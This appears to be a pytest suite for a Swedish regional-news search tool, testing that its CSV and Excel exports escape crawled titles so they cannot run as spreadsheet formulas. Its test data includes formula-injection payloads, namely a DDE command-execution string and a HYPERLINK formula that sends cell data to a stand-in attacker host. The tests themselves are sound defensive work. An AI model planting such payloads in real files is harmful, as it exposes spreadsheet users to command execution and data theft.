"""No CSV the product writes lets a crawled title run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from ingest.pipeline import ingest_jsonl
from regionsok.csvcells import csv_cell
from regionsok.store import Store

REPO = Path(__file__).resolve().parents[2]
HOSTILE_TITLES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
    "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
]
BODY = (
    "Regionen och kommunerna i länet har kommit överens om gemensamt stöd till äldre som "
    "vårdas i hemmet, med mer hemsjukvård och fler besök av distriktssköterskor."
)


@pytest.mark.parametrize("value", HOSTILE_TITLES)
def test_a_cell_that_would_start_a_formula_is_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value, cell", [
    ("Vård för äldre", "Vård för äldre"), (None, ""), (0.42, "0.42"), (["05", "06"], "05; 06"),
    (["=1+1", "x"], "'=1+1; x"), ("a=b", "a=b"), ("", ""),
])
def test_ordinary_cells_are_left_alone(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_every_csv_writer_in_the_product_uses_the_one_rule() -> None:
    writers = []
    for path in REPO.glob("*/**/*.py"):
        if path.parts[len(REPO.parts)] in ("tests", "bench", ".venv"):
            continue
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            writers.append(path.relative_to(REPO).as_posix())
            assert "from regionsok.csvcells import" in source, f"{path} writes CSV without csv_cell"
    assert {"api/routes/export.py", "app/cli/export.py"} <= set(writers)


@pytest.fixture()
def hostile_data_dir(tmp_path: Path) -> Path:
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    records = [
        {"url": f"https://region.example.se/nyheter/{n}", "title": title, "text": f"{BODY} Nummer {n}."}
        for n, title in enumerate(HOSTILE_TITLES)
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    with Store.open(data_dir / "regionsok.sqlite3") as store:
        report = ingest_jsonl(store, path)
    assert report.new == len(HOSTILE_TITLES), report.to_json()
    return data_dir


def _export(data_dir: Path, *args: str) -> bytes:
    env = {**os.environ, "REGIONSOK_DATA_DIR": str(data_dir), "HF_HUB_OFFLINE": "1"}
    done = subprocess.run(
        [sys.executable, "-m", "regionsok", "export", "--no-text", *args], capture_output=True, env=env,
        timeout=300, cwd=REPO,
    )
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


def test_cli_csv_export_writes_hostile_titles_as_text(hostile_data_dir: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(hostile_data_dir, "--format", "csv").decode("utf-8"))))

    # Ingest strips a title's surrounding whitespace, so "\t=1+1" is stored as "=1+1".
    assert sorted(r["title"] for r in rows) == sorted("'" + t.strip() for t in HOSTILE_TITLES)


def test_cli_excel_export_is_semicolon_separated_utf8_with_bom(hostile_data_dir: Path) -> None:
    raw = _export(hostile_data_dir, "--excel")

    assert raw.startswith("\ufeff".encode())
    text = raw.decode("utf-8-sig")
    header = text.splitlines()[0]
    assert header.startswith("doc_id;url;")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert len(rows) == len(HOSTILE_TITLES)
    assert all(r["title"].startswith("'") for r in rows)
    assert all(r["url"].startswith("https://region.example.se/") for r in rows)


def test_cli_export_refuses_an_unknown_delimiter(hostile_data_dir: Path) -> None:
    env = {**os.environ, "REGIONSOK_DATA_DIR": str(hostile_data_dir)}
    done = subprocess.run(
        [sys.executable, "-m", "regionsok", "export", "--format", "csv", "--delimiter", "|"],
        capture_output=True, text=True, env=env, timeout=300, cwd=REPO,
    )
    assert done.returncode == 2
    assert "--delimiter must be ',' or ';'" in done.stderr
